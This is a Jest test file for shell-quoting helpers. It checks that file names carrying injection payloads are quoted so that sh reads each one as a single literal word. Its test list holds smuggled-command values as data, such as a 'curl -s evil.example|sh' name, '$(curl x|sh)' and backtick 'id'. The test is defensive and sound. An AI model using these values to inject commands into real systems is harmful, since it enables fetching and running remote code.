import { execFileSync } from 'node:child_process';
import { expect, test } from '@jest/globals';
import { quotePath, quoteWord } from '../../src/values/quote-word.ts';
import { HOSTILE_STRINGS } from '../support/hostile-strings.ts';

const NAMES = [
  'evals/configs/pr;curl -s evil.example|sh;#.yaml',
  'evals/configs/a$(curl x|sh).yaml',
  'a`id`.yaml',
  "it's.yaml",
  "'; id; '.yaml",
  'two words.yaml',
  'a&b.yaml',
  'a\nid\n.yaml',
  'a"b.yaml',
  'a\\b.yaml',
  'a*?[b].yaml',
  'a{b,c}.yaml',
  '~/pr.yaml',
  '$HOME.yaml',
  '!!.yaml',
  '=ls.yaml',
  '--help',
  '-x.yaml',
  ...Object.values(HOSTILE_STRINGS).filter((text) => !text.includes('\0')),
];

test('a shell reads every hostile name as that one word, and runs nothing of it', () => {
  for (const name of NAMES) {
    const read = execFileSync('sh', ['-c', `printf '%s' ${quoteWord(name)}`], { encoding: 'utf8' });
    expect(read).toBe(name.toWellFormed());
  }
});

test('what needs no quotes stands plain, and no path is an option', () => {
  for (const name of ['evals/configs/pr.yaml', 'a_b-c/1.2,3@x+y=z.yml', 'main~1'])
    expect(quotePath(name)).toBe(name);
  expect(quotePath('--help')).toBe('./--help');
  expect(quotePath('-x;y')).toBe("'./-x;y'");
});
